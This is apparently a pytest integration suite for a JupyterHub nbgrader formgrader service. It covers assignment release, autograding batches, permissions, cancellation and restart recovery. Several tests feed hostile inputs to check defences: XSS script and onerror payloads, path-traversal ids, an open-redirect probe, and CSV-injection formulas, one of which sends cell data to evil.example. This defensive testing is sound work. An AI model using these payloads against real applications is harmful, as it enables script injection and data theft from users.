"""The formgrader under a real hub: two courses, their graders, students working through the
nbgrader exchange, and the whole grading cycle through the service's own routes.

One hub of our own for the module (formgrader only, two configured courses); the tests run in
file order: the cycle test leaves graded submissions that the later tests look at.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import shutil
import signal
import time
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import httpx
import psutil
import pytest
from playwright.sync_api import Dialog, expect

from tests.harness.formgrader import (
    SAMPLE,
    Grader,
    answer,
    formgrader_hub,
    student_run,
    wait_batch,
)
from tests.harness.hub import Hub

pytestmark = pytest.mark.hub

STUDENTS = {
    # a right answer that also prints what environment student code sees
    "student1": "import os\nprint('ENV', sorted(os.environ))\n"
    "def squares(n):\n    return [i * i for i in range(1, n + 1)]",
    # a wrong answer
    "student2": "def squares(n):\n    return []",
    # a slow one, to look at the service while an autograde runs
    "student3": "import time\ntime.sleep(4)\n"
    "def squares(n):\n    return [i * i for i in range(1, n + 1)]",
}
#: student2 tries to run script in the grader's browser through a markdown answer
XSS = "<script>document.title = 'pwned'</script><img src=x onerror=\"alert(1)\">"


@pytest.fixture(scope="module")
def fg(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hub]:
    work = tmp_path_factory.mktemp("fghub")
    hub = formgrader_hub(
        work, {"course1": ["teacher1"], "course2": ["teacher2"]}, "c.FormGrader.max_workers = 2\n"
    )
    hub.start()
    try:
        yield hub
    finally:
        hub.stop()


def test_full_cycle(fg: Hub) -> None:
    teacher = Grader(fg, "teacher1")
    source = fg.course_root / "source" / "ps1"  # type: ignore[attr-defined]
    teacher.ok("PUT", "formgrader/api/assignment/ps1", {})
    assert source.is_dir()
    shutil.copy(SAMPLE, source / "problem1.ipynb")

    teacher.ok("POST", "formgrader/api/assignment/ps1/assign")
    teacher.ok("POST", "formgrader/api/assignment/ps1/release")
    assert teacher.ok("GET", "formgrader/api/assignment/ps1")["status"] == "released"

    for student, code in STUDENTS.items():
        student_run(fg, student, "fetch_assignment", "ps1")
        text = XSS if student == "student2" else "Because range(1, 1) is empty."
        answer(fg, student, code, text)
        student_run(fg, student, "submit", "ps1")

    teacher.ok("POST", "formgrader/api/assignment/ps1/collect")
    submissions = teacher.ok("GET", "formgrader/api/submissions/ps1")
    assert {s["student"] for s in submissions} == set(STUDENTS)

    # autograde every submission (two workers): answered at once with the batch's job ids
    r = teacher.send("POST", "api/assignment/ps1/autograde")
    assert r.status_code == 202, r.text
    queued = r.json()
    assert set(queued["students"]) == set(STUDENTS) and queued["skipped"] == []
    assert r.headers["Location"].endswith(f"/api/batches/{queued['batch']}")
    # asked again while it runs: the same jobs, nothing graded twice
    again = teacher.send("POST", "api/assignment/ps1/autograde").json()
    assert again["jobs"] == queued["jobs"] and again["batch"] != queued["batch"]
    # meanwhile the service answers at once
    time.sleep(1.5)
    other = Grader(fg, "admin")
    started = time.monotonic()
    jobs = other.ok("GET", "api/jobs")["jobs"]
    # at once: not after the autograde (student3's code alone sleeps 4 s), on a loaded machine
    assert time.monotonic() - started < 3.0
    assert any(j["state"] == "running" and j["action"] == "autograde" for j in jobs)
    batch = wait_batch(teacher, queued["batch"])
    assert (batch["total"], batch["done"], batch["failures"]) == (3, 3, [])
    assert wait_batch(teacher, again["batch"])["done"] == 3

    autograded = fg.course_root / "autograded" / "student1" / "ps1" / "problem1.ipynb"  # type: ignore[attr-defined]
    output = autograded.read_text()
    assert "ENV" in output and "PATH" in output
    assert "JUPYTERHUB" not in output  # student code ran without the service's token

    by_student = {s["student"]: s for s in teacher.ok("GET", "formgrader/api/submissions/ps1")}
    assert by_student["student1"]["score"] == 2
    assert by_student["student2"]["score"] == 0

    # grade the written answer by hand, with a comment
    notebooks = teacher.ok("GET", "formgrader/api/submitted_notebooks/ps1/problem1")
    for nb in notebooks:
        grades = teacher.ok("GET", f"formgrader/api/grades?submission_id={nb['id']}")
        explain = next(g for g in grades if g["name"] == "explain")
        points = 1 if nb["student"] != "student2" else 0
        saved = teacher.ok("PUT", f"formgrader/api/grade/{explain['id']}", {"manual_score": points})
        assert saved["manual_score"] == points
        comments = teacher.ok("GET", f"formgrader/api/comments?submission_id={nb['id']}")
        comment = next(c for c in comments if c["name"] == "explain")
        teacher.ok("PUT", f"formgrader/api/comment/{comment['id']}", {"manual_comment": "Seen."})
    by_student = {s["student"]: s for s in teacher.ok("GET", "formgrader/api/submissions/ps1")}
    assert by_student["student1"]["score"] == 3

    teacher.ok("POST", "formgrader/api/assignment/ps1/generate_feedback")
    teacher.ok("POST", "formgrader/api/assignment/ps1/release_feedback")
    student_run(fg, "student1", "fetch_feedback", "ps1")
    feedback = list((fg.workdir / "students" / "student1" / "ps1" / "feedback").rglob("*.html"))
    assert feedback and "Seen." in feedback[0].read_text()

    # grades as CSV, per course and per assignment
    csv = teacher.get("export/grades.csv")
    assert csv.status_code == 200
    assert csv.headers["Content-Type"].startswith("text/csv")
    rows = {line.split(",")[3]: line.split(",") for line in csv.text.splitlines()[1:]}
    assert rows["student1"][9] == "3.0" and rows["student2"][9] == "0.0"
    assert teacher.get("export/ps1/grades.csv").text == csv.text
    assert teacher.get("export/nope/grades.csv").status_code == 404

    # the course page lists the exports and the jobs
    page = teacher.get("")
    assert 'href="/services/formgrader/course1/export/ps1/grades.csv"' in page.text
    assert "autograde" in page.text


def test_submission_page_runs_only_nbgraders_scripts(fg: Hub) -> None:
    teacher = Grader(fg, "teacher1")
    notebooks = teacher.ok("GET", "formgrader/api/submitted_notebooks/ps1/problem1")
    xss = next(nb for nb in notebooks if nb["student"] == "student2")
    page = teacher.get(f"formgrader/submissions/{xss['id']}/")
    assert page.status_code == 200
    csp = page.headers["Content-Security-Policy"]
    script_src = next(d for d in csp.split("; ") if d.startswith("script-src"))
    assert "'unsafe-inline'" not in script_src
    assert "document.title = 'pwned'" in page.text  # shown (as the student wrote it)...
    from hubservices.formgrader.courses import csp_hash, event_handlers, inline_scripts

    student_hashes = {csp_hash(code) for code in [*inline_scripts(XSS), *event_handlers(XSS)]}
    assert len(student_hashes) == 2
    assert not student_hashes & set(script_src.split())  # ...but not allowed to run
    assert "cdnjs" not in page.text and "https://" not in re.sub(
        r'href="https://[^"]*"', "", page.text
    )

    # the student's own files: looked up in the gradebook, served sandboxed, never as script
    notebook = teacher.get(f"formgrader/submissions/{xss['id']}/problem1.ipynb")
    assert notebook.status_code == 200 and "pwned" in notebook.text
    assert notebook.headers["Content-Security-Policy"].startswith("sandbox")
    assert teacher.get("formgrader/submissions/nosuchid/problem1.ipynb").status_code == 404
    other = Grader(fg, "teacher2")
    assert other.get(f"formgrader/submissions/{xss['id']}/problem1.ipynb").status_code == 403

    # a submission whose autograded notebook is gone: nbgrader's 404 page, its own scripts run
    honest = next(nb for nb in notebooks if nb["student"] == "student1")
    autograded = fg.course_root / "autograded" / "student1" / "ps1" / "problem1.ipynb"  # type: ignore[attr-defined]
    autograded.rename(autograded.with_suffix(".away"))
    try:
        missing = teacher.get(f"formgrader/submissions/{honest['id']}/")
    finally:
        autograded.with_suffix(".away").rename(autograded)
    assert missing.status_code == 404 and "notebook file not found" in missing.text
    allowed = set(missing.headers["Content-Security-Policy"].split("; ")[1].split())
    assert {csp_hash(code) for code in inline_scripts(missing.text)} <= allowed


def test_permissions(fg: Hub) -> None:
    urls = [
        "",
        "formgrader/manage_assignments",
        "formgrader/gradebook/ps1",
        "formgrader/static/js/utils.js",
        "formgrader/api/assignments",
        "api/jobs",
        "api/jobs/1",
        "api/batches/1",
        "export/grades.csv",
    ]
    teacher = Grader(fg, "teacher1")
    for url in urls:
        assert teacher.get(url).status_code == 200, url
    listing = teacher.client.get("/services/formgrader/")
    assert 'href="/services/formgrader/course1/"' in listing.text
    assert "course2" not in listing.text

    other = Grader(fg, "teacher2")  # grades course2 only
    assert other.get("", follow_redirects=False).status_code == 403
    for url in urls:
        r = other.get(url)
        assert r.status_code == 403, url
    assert other.get("formgrader/api/assignments").json()["message"] == (
        "teacher2 does not grade course1."
    )
    assert other.send("POST", "formgrader/api/assignment/ps1/release").status_code == 403
    assert other.send("POST", "api/assignment/ps1/autograde").status_code == 403
    assert other.send("POST", "api/batches/1/cancel").status_code == 403
    assert Grader(fg, "teacher2", "course2").get("formgrader/api/assignments").status_code == 200

    student = fg.browser("student9")  # in no gradebook: their (empty) grades page, no course
    home = student.get("/services/formgrader/")
    assert home.status_code == 200 and "No course lists you as a student" in home.text
    assert "course1" not in home.text
    assert student.get("/services/formgrader/course1/formgrader/api/assignments").status_code == 403

    admin = Grader(fg, "admin")
    for url in urls:
        assert admin.get(url).status_code == 200, url
    everything = admin.client.get("/services/formgrader/").text
    assert "course1" in everything and "course2" in everything

    with httpx.Client(base_url=fg.url) as anonymous:
        page = anonymous.get("/services/formgrader/course1/formgrader/manage_assignments")
        assert page.status_code == 302 and "/hub/api/oauth2/authorize" in page.headers["Location"]
        api = anonymous.get("/services/formgrader/course1/formgrader/api/assignments")
        assert api.status_code == 403


def test_xsrf_bad_ids_and_no_open_redirect(fg: Hub) -> None:
    teacher = Grader(fg, "teacher1")
    forged = teacher.client.put(
        "/services/formgrader/course1/formgrader/api/student/mallory", json={}
    )
    assert forged.status_code == 403
    assert teacher.send("PUT", "formgrader/api/student/mallory", {}).status_code == 200
    bad = teacher.send("PUT", "formgrader/api/assignment/..%2F..%2Fetc", {})
    assert bad.status_code in (400, 404)
    assert teacher.send("PUT", "formgrader/api/assignment/.hidden", {}).status_code == 400
    r = teacher.get("formgrader//evil.example/", follow_redirects=False)
    assert not r.headers.get("Location", "").startswith(("//", "http"))


def test_grading_in_chromium(fg: Hub, hub_page, tmp_path: Path) -> None:
    browser = hub_page(fg, "teacher1")
    page = browser.page
    base = f"{fg.url}/services/formgrader/course1/formgrader"

    page.goto(f"{base}/manage_assignments")
    browser.problems.clear()  # the hub's landing page (the user's JupyterLab) is not ours
    page.reload()
    page.wait_for_selector("#main-table tr td a:text('ps1')")
    assert page.locator("#main-table a[href^='/tree/']").count() == 0  # no dead server links

    teacher = Grader(fg, "teacher1")
    notebooks = teacher.ok("GET", "formgrader/api/submitted_notebooks/ps1/problem1")
    submission = next(nb for nb in notebooks if nb["student"] == "student3")
    page.goto(f"{base}/submissions/{submission['id']}/")
    score = page.locator("input.score#explain")
    score.wait_for()
    with page.expect_response(
        lambda r: "/api/grade/" in r.url and r.request.method == "PUT"
    ) as put:
        score.fill("0.5")
        score.press("Tab")
    assert put.value.status == 200
    page.screenshot(path=str(tmp_path / "grading.png"), full_page=False)
    shutil.copy(tmp_path / "grading.png", fg.workdir / "grading.png")

    page.reload()
    expect(page.locator("input.score#explain")).to_have_value("0.5")
    grades = teacher.ok("GET", f"formgrader/api/grades?submission_id={submission['id']}")
    assert next(g for g in grades if g["name"] == "explain")["manual_score"] == 0.5

    # nbgrader's own controls get answers its scripts can read: flag (Ctrl+Shift+F), Next
    page.keyboard.press("Control+Shift+F")
    expect(page.locator("#statusmessage")).to_have_text("Submission flagged")
    assert browser.problems == [], browser.problems
    landing = re.compile(r"/formgrader/(submissions/\w+/|gradebook/ps1/problem1)$")
    with page.expect_response(lambda r: landing.search(r.url) is not None) as landed:
        page.locator("li.next a").click()  # may land on student2's page, whose script is blocked
    assert landed.value.status == 200


def test_job_routes(fg: Hub) -> None:
    teacher = Grader(fg, "teacher1")
    # nbgrader's own per-submission route still answers what its page expects, once graded
    r = teacher.send("POST", "formgrader/api/submission/ps1/student2/autograde")
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/plain")
    result = json.loads(r.text)
    assert result["success"] and "student2" in result["log"]
    last = teacher.ok("GET", "api/jobs")["jobs"][0]
    assert (last["action"], last["args"], last["state"]) == (
        "autograde",
        ["ps1", "student2"],
        "done",
    )

    # our routes queue and answer 202 with job ids; the job and its batch can be looked at
    r = teacher.send("POST", "api/submission/ps1/student1/generate_feedback")
    assert r.status_code == 202, r.text
    queued = r.json()
    batch = wait_batch(teacher, queued["batch"])
    assert (batch["action"], batch["user"], batch["done"]) == ("generate_feedback", "teacher1", 1)
    job = teacher.ok("GET", f"api/jobs/{queued['jobs'][0]}")
    assert job["state"] == "done" and job["student"] == "student1" and "log" in job
    r = teacher.send("POST", "api/assignment/ps1/collect")
    assert r.status_code == 202 and wait_batch(teacher, r.json()["batch"])["done"] == 1

    assert teacher.get("api/jobs/99999").status_code == 404
    assert teacher.get("api/batches/99999").status_code == 404
    assert teacher.send("POST", "api/batches/99999/cancel").status_code == 404
    assert teacher.send("POST", "api/assignment/ps1/explode").status_code == 404
    assert teacher.send("POST", "api/submission/ps1/..%2Fx/autograde").status_code in (400, 404)
    # cancelling is a state change: no XSRF token, no cancel
    forged = teacher.client.post(
        f"/services/formgrader/course1/api/batches/{queued['batch']}/cancel"
    )
    assert forged.status_code == 403


def test_cancel_a_batch(fg: Hub) -> None:
    teacher = Grader(fg, "teacher1")
    queued = teacher.send("POST", "api/assignment/ps1/autograde").json()
    deadline = time.monotonic() + 60
    while teacher.ok("GET", f"api/batches/{queued['batch']}")["running"] == 0:
        assert time.monotonic() < deadline
        time.sleep(0.2)
    r = teacher.send("POST", f"api/batches/{queued['batch']}/cancel")
    assert r.status_code == 200, r.text
    batch = wait_batch(teacher, queued["batch"], timeout=30)
    assert batch["cancelled"] >= 1 and batch["cancelled_by"] == "teacher1"
    assert batch["done"] + batch["cancelled"] == batch["total"] == 3
    cancelled = [f for f in batch["failures"] if f["state"] == "cancelled"]
    assert {f["reason"] for f in cancelled} == {"cancelled by teacher1"}
    assert no_workers_left(fg)


def no_workers_left(hub: Hub, timeout: float = 15) -> bool:
    """No worker process (nor kernel) of the formgrader is left."""
    deadline = time.monotonic() + timeout
    while True:
        left = [p for p in psutil.Process(hub.pid).children(recursive=True) if is_job(p)]
        if not left:
            return True
        if time.monotonic() > deadline:
            return False
        time.sleep(0.2)


def is_job(process: psutil.Process) -> bool:
    """A formgrader worker or a kernel it started."""
    with contextlib.suppress(psutil.Error):
        command = " ".join(process.cmdline())
        return "hubservices.formgrader.worker" in command or "ipykernel" in command
    return False


#: Student ids a crafted exchange file (or a hand-made directory) could give a submission.
CRAFTED_IDS = ["<img src=x onerror=alert(1)>", "=cmd|x"]


def test_crafted_student_ids_are_skipped_and_never_rendered(fg: Hub, hub_page) -> None:
    submitted = fg.course_root / "submitted"  # type: ignore[attr-defined]
    for crafted in CRAFTED_IDS:
        shutil.copytree(submitted / "student1", submitted / crafted)
    try:
        teacher = Grader(fg, "teacher1")
        r = teacher.send("POST", "api/assignment/ps1/autograde")
        assert r.status_code == 202, r.text
        queued = r.json()
        assert sorted(queued["skipped"]) == sorted(CRAFTED_IDS)
        assert set(queued["students"]) == set(STUDENTS)
        assert wait_batch(teacher, queued["batch"])["done"] == len(STUDENTS)  # the rest graded
        autograded = fg.course_root / "autograded"  # type: ignore[attr-defined]
        assert not any((autograded / crafted).exists() for crafted in CRAFTED_IDS)
        listed = {s["student"] for s in teacher.ok("GET", "formgrader/api/submissions/ps1")}
        assert listed == set(STUDENTS)

        browser = hub_page(fg, "teacher1")
        page = browser.page
        dialogs: list[str] = []

        def dismiss(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", dismiss)
        course = f"{fg.url}/services/formgrader/course1/"
        page.goto(course)
        browser.problems.clear()  # the hub's landing page (the user's JupyterLab) is not ours
        page.reload()
        skipped = page.locator("#unsafe-ids li code")
        expect(skipped).to_have_count(len(CRAFTED_IDS))
        assert sorted(skipped.all_inner_texts()) == sorted(
            f"submitted/{crafted}/ps1" for crafted in CRAFTED_IDS
        )
        # the batches drawn by course.js: progress, no failure
        row = page.locator(f"#batches tr[data-batch='{queued['batch']}']")
        expect(row).to_contain_text(f"{len(STUDENTS)} of {len(STUDENTS)} done")
        assert page.locator("img[src=x]").count() == 0

        # nbgrader's pages never list them; its autograde button for one submission works
        page.goto(f"{course}formgrader/manage_submissions/ps1")
        student2 = page.locator("#main-table tr", has_text="student2")
        student2.wait_for()
        assert "onerror" not in page.content() and "=cmd" not in page.content()
        student2.locator(".autograde a").click()
        # a worker starts and grades meanwhile: longer than Playwright's 5 s on a busy machine
        success = page.locator("#success-modal")
        expect(success).to_contain_text("Successfully autograded", timeout=60_000)
        page.goto(f"{course}formgrader/manage_students")
        page.locator("#main-table tr", has_text="student1").wait_for()
        assert "onerror" not in page.content() and "=cmd" not in page.content()
        assert page.locator("img[src=x]").count() == 0
        assert dialogs == [] and browser.problems == [], (dialogs, browser.problems)
    finally:
        for crafted in CRAFTED_IDS:
            shutil.rmtree(submitted / crafted)


def test_course_page_progress_and_cancel_in_chromium(fg: Hub, hub_page) -> None:
    browser = hub_page(fg, "teacher1")
    page = browser.page
    page.goto(f"{fg.url}/services/formgrader/course1/")
    browser.problems.clear()  # the hub's landing page (the user's JupyterLab) is not ours
    page.reload()
    page.get_by_role("button", name="Autograde every submission of ps1").click()
    batch = page.locator("#batches tr.active").first
    expect(batch).to_contain_text("1 running", timeout=60_000)  # live, as the jobs run
    expect(batch).to_contain_text(f"of {len(STUDENTS)} done")
    batch_id = batch.get_attribute("data-batch")
    batch.get_by_role("button", name="Cancel").click()
    done = page.locator(f"#batches tr[data-batch='{batch_id}']")
    expect(done).to_have_class("finished", timeout=30_000)
    expect(done).to_contain_text("cancelled by teacher1")
    expect(done.locator("ul.failures li").first).to_contain_text("cancelled by teacher1")
    assert browser.problems == [], browser.problems


def formgrader_process(hub: Hub) -> psutil.Process:
    """The formgrader service process the hub runs now."""
    (service,) = [p for p in psutil.Process(hub.pid).children() if is_formgrader(p)]
    return service


def is_formgrader(process: psutil.Process) -> bool:
    with contextlib.suppress(psutil.Error):  # gone (or a zombie) meanwhile
        return process.cmdline()[1:3] == ["-m", "hubservices.formgrader"]
    return False


@pytest.mark.parametrize("stop", [signal.SIGKILL, signal.SIGTERM], ids=["SIGKILL", "SIGTERM"])
def test_a_restart_mid_batch_grades_every_submission_once(fg: Hub, stop: signal.Signals) -> None:
    """The service killed mid-batch (as by a crash) or stopped (SIGTERM, as by an admin or an
    orchestrator); the hub starts it again; it finishes the batch, each submission once."""
    submitted = fg.course_root / "submitted"  # type: ignore[attr-defined]
    slow = [f"late{stop.name}{i}" for i in range(4)]  # copies of student3's 4-second submission
    for student in slow:
        shutil.copytree(submitted / "student3", submitted / student)
    teacher = Grader(fg, "teacher1")
    queued = teacher.send("POST", "api/assignment/ps1/autograde").json()
    students = sorted(queued["students"])  # every submission, earlier tests' too
    assert set(slow) <= set(students)
    deadline = time.monotonic() + 120
    while True:
        batch = teacher.ok("GET", f"api/batches/{queued['batch']}")
        if batch["done"] >= 1 and batch["running"] >= 1:
            break
        assert time.monotonic() < deadline, batch
        time.sleep(0.2)

    service = formgrader_process(fg)
    workers = service.children(recursive=True)
    assert workers
    killed_at = time.time()
    log_before = fg.log_path.read_text(errors="replace")
    service.send_signal(stop)
    _, alive = psutil.wait_procs(workers, timeout=15)
    assert alive == []  # its workers and their kernels died with it

    # the hub notices (it polls its services every 30 s) and starts the service again
    deadline = time.monotonic() + 90
    while True:
        with contextlib.suppress(httpx.TransportError, ValueError):
            health = httpx.get(fg.service_url("formgrader", "health"), timeout=2)
            if health.status_code == 200 and formgrader_process(fg).pid != service.pid:
                break
        assert time.monotonic() < deadline, fg.log_tail()
        time.sleep(0.5)
    fg._remember_children()
    stopped = fg.log_path.read_text(errors="replace").removeprefix(log_before)
    # SIGTERM: a clean stop, in the grace period, no traceback; SIGKILL: the kernel's doing
    exit_status = 0 if stop == signal.SIGTERM else -signal.SIGKILL
    assert f"Service formgrader exited with status {exit_status}" in stopped, stopped
    assert "Traceback" not in stopped, stopped

    batch = wait_batch(teacher, queued["batch"])
    assert (batch["total"], batch["done"], batch["failures"]) == (len(students), len(students), [])
    jobs = {job["id"]: job for job in teacher.ok("GET", "api/jobs")["jobs"]}
    ran = [jobs[job_id] for job_id in batch["jobs"]]
    assert sorted(job["student"] for job in ran) == students  # one job a submission
    resumed = [job for job in ran if job["attempts"] == 2]
    assert resumed and all(job["attempts"] in (1, 2) for job in ran)
    for job in ran:
        notebook = fg.course_root / "autograded" / job["student"] / "ps1" / "problem1.ipynb"  # type: ignore[attr-defined]
        finished = datetime.fromisoformat(job["finished_at"]).timestamp()
        if finished < killed_at:  # done before the stop: not graded again
            assert notebook.stat().st_mtime < killed_at, job
        else:
            assert notebook.stat().st_mtime > killed_at, job
    # the gradebook has every submission autograded; the new ones with their score
    graded = {s["student"]: s for s in teacher.ok("GET", "formgrader/api/submissions/ps1")}
    assert set(graded) == set(students) and all(s["autograded"] for s in graded.values())
    assert [graded[student]["score"] for student in slow] == [2] * len(slow)


def test_grades_csv_opens_hostile_names_as_text(fg: Hub) -> None:
    """Student names a spreadsheet would run as formulas (OWASP's CSV injection)."""
    teacher = Grader(fg, "teacher1")
    teacher.ok("PUT", "formgrader/api/assignment/csv1", {})
    hostile = {
        "first_name": '=HYPERLINK("http://evil.example/?"&A1,"grades")',
        "last_name": "+cmd|' /C calc'!A0",
        "email": "@evil.example",
    }
    teacher.ok("PUT", "formgrader/api/student/student-csv", hostile)
    # an id a spreadsheet would run never reaches the gradebook
    refused = teacher.send("PUT", "formgrader/api/student/%3D1%2B2", hostile)
    assert refused.status_code == 400

    r = teacher.get("export/csv1/grades.csv")
    assert r.status_code == 200
    rows = {row["student_id"]: row for row in csv.DictReader(io.StringIO(r.text, newline=""))}
    row = rows["student-csv"]
    assert {key: row[key] for key in hostile} == {k: "'" + v for k, v in hostile.items()}
    assert (row["assignment"], row["score"], row["max_score"]) == ("csv1", "0.0", "0.0")
    assert "=1+2" not in rows and "'=1+2" not in rows
